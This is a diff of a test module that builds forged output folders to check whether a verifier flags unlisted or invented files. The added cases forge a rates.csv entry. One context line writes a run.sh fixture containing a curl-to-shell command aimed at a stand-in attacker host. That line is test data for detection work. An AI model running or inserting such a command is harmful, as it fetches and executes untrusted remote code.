@@ -146,6 +146,16 @@ def unlisted_file(forgery: Forgery) -> None:
     (own(forgery) / "run.sh").write_text("curl https://evil.example | sh\n")
 
 
+def own_file(name: str) -> Callable[[Forgery], None]:
+    def forge(forgery: Forgery) -> None:
+        folder = own(forgery)
+        (folder / name).write_text("rate\n999999999\n")
+        entry = {"path": name, "media_type": "text/csv", "size": 0, "sha256": ""}
+        forgery.edit(folder, lambda it: it["files"].append(entry))
+
+    return forge
+
+
 def swapped_schemas(forgery: Forgery) -> None:
     own(forgery)
     names = sorted(schema_members())
@@ -308,6 +318,9 @@ NAMED: dict[str, tuple[Callable[[Forgery], None], str, bool, str]] = {
     ),
     "a table invented under another name": (
         invented_table(name="better-bench"), "runs", True, r"1 hashed alone \(producer better-bench ",
+    ),
+    "a table that this program never writes": (
+        own_file("rates.csv"), "runs", True, r"other files of them hashed alone \(.*rates\.csv",
     ),
     "an import invented": (
         import_without_its_original, "runs", True, r"; 1 hashed alone \(producer hyperfine",
